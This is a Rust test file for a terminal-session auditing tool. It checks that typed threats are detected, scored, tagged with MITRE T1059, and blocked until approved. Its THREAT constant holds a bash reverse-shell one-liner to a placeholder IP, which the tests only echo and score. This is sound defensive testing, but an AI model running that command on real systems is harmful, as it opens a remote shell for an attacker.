//! A session that shows a threat is blocked until somebody decides.

use serde_json::Value;

use crate::sandbox::{Ran, Sandbox, until};
use crate::terminal::Terminal;

const THREAT: &str = "bash -i >& /dev/tcp/192.0.2.7/4444 0>&1";

/// A shell that reads lines and echoes them, so that a threat is typed and shown and never run.
fn session(sandbox: &Sandbox, engine: &str) -> Terminal {
    let script = "echo up; while read -r line; do echo \"line: $line\"; done";
    let command = ["run", "--engine", engine, "--", "sh", "-c", script];
    let mut terminal = Terminal::start(sandbox.command(command));
    terminal.expect("up");
    terminal
}

fn status(sandbox: &Sandbox) -> Value {
    let ran = sandbox.run(["ctl", "status", "--json"]);
    assert_eq!(ran.status, 0, "{ran:?}");
    serde_json::from_slice(&ran.stdout).unwrap()
}

#[test]
fn a_threat_blocks_until_it_is_approved() {
    for engine in ["hybrid", "async", "threaded", "poll", "multiproc"] {
        let sandbox = Sandbox::new();
        let mut terminal = session(&sandbox, engine);
        terminal.type_in("ls -la\r");
        terminal.expect("line: ls -la");
        terminal.type_in(&format!("{THREAT}\r"));
        terminal.expect("session blocked");
        until("it is blocked", || status(&sandbox)["state"] == "blocked");
        assert!(status(&sandbox)["score"].as_f64() > Some(0.7), "{}", status(&sandbox));
        let blocked = sandbox.logged("session-blocked").unwrap();
        assert_eq!(blocked["auditty.score"], status(&sandbox)["score"], "{engine}");
        assert!(blocked["rule.name"][0].is_string(), "{engine}: {blocked}");
        assert!(blocked["threat.technique.id"].to_string().contains("T1059"), "{blocked}");
        let ran = sandbox.run(["ctl", "approve"]);
        assert_eq!(ran.status, 0, "{engine}: {ran:?}");
        until("it runs again", || status(&sandbox)["state"] == "running");
        terminal.type_in("after\r");
        terminal.expect("line: after");
        terminal.type_in("\u{4}");
        assert_eq!(terminal.finish().0, 0, "{engine}");
        let id = sandbox.sessions().remove(0);
        let shown = sandbox.run(["show", "--json", &id]);
        let shown: Value = serde_json::from_slice(&shown.stdout).unwrap();
        assert!(shown["verdicts"][0].to_string().contains("T1059"), "{engine}: {shown}");
        assert_eq!(shown["blocks"].as_array().unwrap().len(), 1, "{engine}: {shown}");
        assert_eq!(sandbox.run(["verify", &id]).status, 0, "{engine}");
    }
}

#[test]
fn a_threshold_of_one_or_no_blocking_lets_it_pass() {
    for (name, value, is_judged) in [
        ("AUDITTY_AI__THREAT_THRESHOLD", "1.0", true),
        ("AUDITTY_BLOCKING__ENABLE_EMERGENCY_BLOCK", "false", true),
        ("AUDITTY_DETECT__ENABLED", "false", false),
    ] {
        let sandbox = Sandbox::new();
        let mut command =
            sandbox.command(["run", "--", "sh", "-c", "read -r l; echo \"got: $l\"; read x"]);
        command.env(name, value);
        let mut terminal = Terminal::start(command);
        terminal.type_in(&format!("{THREAT}\r"));
        terminal.expect("got: bash");
        if is_judged {
            // What the program prints of it counts less, and may be judged first.
            let found = || {
                sandbox.logged_where(|line| {
                    line["event.action"] == "threat-found"
                        && line["auditty.score"].as_f64() > Some(0.7)
                })
            };
            until("it is judged", || found().is_some());
            let found = found().unwrap();
            assert_eq!(status(&sandbox)["score"], found["auditty.score"], "{name}");
        }
        assert_eq!(status(&sandbox)["state"], "running", "{name}");
        terminal.type_in("\r");
        assert_eq!(terminal.finish().0, 0, "{name}");
        let id = sandbox.sessions().remove(0);
        let shown = sandbox.run(["show", "--json", &id]).text();
        let shown: Value = serde_json::from_str(&shown).unwrap();
        assert_eq!(shown["blocks"], Value::Array(vec![]), "{name}: {shown}");
        let verdicts = shown["verdicts"].as_array().unwrap();
        assert_eq!(verdicts.is_empty(), !is_judged, "{name}: {shown}");
        assert_eq!(sandbox.logged("session-blocked"), None, "{name}");
    }
}

#[test]
fn text_is_scored_and_explained() {
    let sandbox = Sandbox::new();
    let records = format!(
        "{}\n{}\n",
        serde_json::json!({ "id": "bad", "kind": "command", "text": THREAT }),
        serde_json::json!({ "id": "good", "kind": "command", "text": "ls -la" }),
    );
    let ran = sandbox.feed(["detect", "score"], records.as_bytes());
    assert_eq!(ran.status, 0, "{ran:?}");
    let scores: Vec<Value> =
        ran.lines().iter().map(|line| serde_json::from_str(line).unwrap()).collect();
    assert_eq!((&scores[0]["id"], &scores[1]["id"]), (&"bad".into(), &"good".into()));
    assert!(scores[0]["score"].as_f64() > Some(0.7), "{scores:?}");
    assert!(scores[1]["score"].as_f64() < Some(0.5), "{scores:?}");
    let file = sandbox.file("records.jsonl", &records);
    assert_eq!(sandbox.run(["detect", "score", file.to_str().unwrap()]).stdout, ran.stdout);
    let said = sandbox.run(["detect", "explain", THREAT]).text();
    assert!(said.contains("T1059"), "{said}");
    assert_eq!(sandbox.feed(["detect", "score"], b"no record\n").status, 1);
}

#[test]
fn a_session_with_an_analyser_beside_it_is_blocked_as_well() {
    use std::io::BufRead as _;
    let sandbox = Sandbox::new();
    let mut server = sandbox.command(["analyze", "--listen", "127.0.0.1:0"]).spawn().unwrap();
    let mut line = String::new();
    std::io::BufReader::new(server.stdout.take().unwrap()).read_line(&mut line).unwrap();
    let url = line.trim().strip_prefix("listening on ").unwrap().to_owned();
    let mut command =
        sandbox.command(["run", "--", "sh", "-c", "read -r l; echo \"got: $l\"; read x"]);
    command.env("AUDITTY_AI__ENABLED", "true").env("AUDITTY_AI__SERVER_URL", url);
    let mut terminal = Terminal::start(command);
    terminal.type_in(&format!("{THREAT}\r"));
    terminal.expect("session blocked");
    assert_eq!(sandbox.run(["ctl", "reject"]).status, 0);
    assert_eq!(terminal.finish().0, 77);
    server.kill().unwrap();
    server.wait().unwrap();
}

#[test]
fn an_analyser_that_is_not_there_stops_nobody() {
    let sandbox = Sandbox::new();
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let url = format!("ws://{}/ai", listener.local_addr().unwrap());
    drop(listener);
    let mut command = sandbox.command(["run", "--", "sh", "-c", "echo fine; exit 5"]);
    command.env("AUDITTY_AI__ENABLED", "true").env("AUDITTY_AI__SERVER_URL", url);
    let ran = Ran::of(command.spawn().unwrap());
    assert_eq!((ran.status, ran.text().as_str()), (5, "fine\n"), "{ran:?}");
}

#[test]
fn rules_that_are_wrong_stop_the_session_before_it_begins() {
    let sandbox = Sandbox::new();
    sandbox.file("rules/mine.toml", "this is no rule\n");
    for (name, value) in [
        ("AUDITTY_DETECT__RULES_DIR", sandbox.path("rules")),
        ("AUDITTY_DETECT__RULES_DIR", sandbox.path("no-such-rules")),
    ] {
        let mut command = sandbox.command(["run", "--", "touch", "ran"]);
        command.env(name, value);
        let ran = Ran::of(command.spawn().unwrap());
        assert_eq!((ran.status, ran.stderr.lines().count()), (78, 1), "{ran:?}");
        assert!(!sandbox.path("home/ran").exists());
    }
}
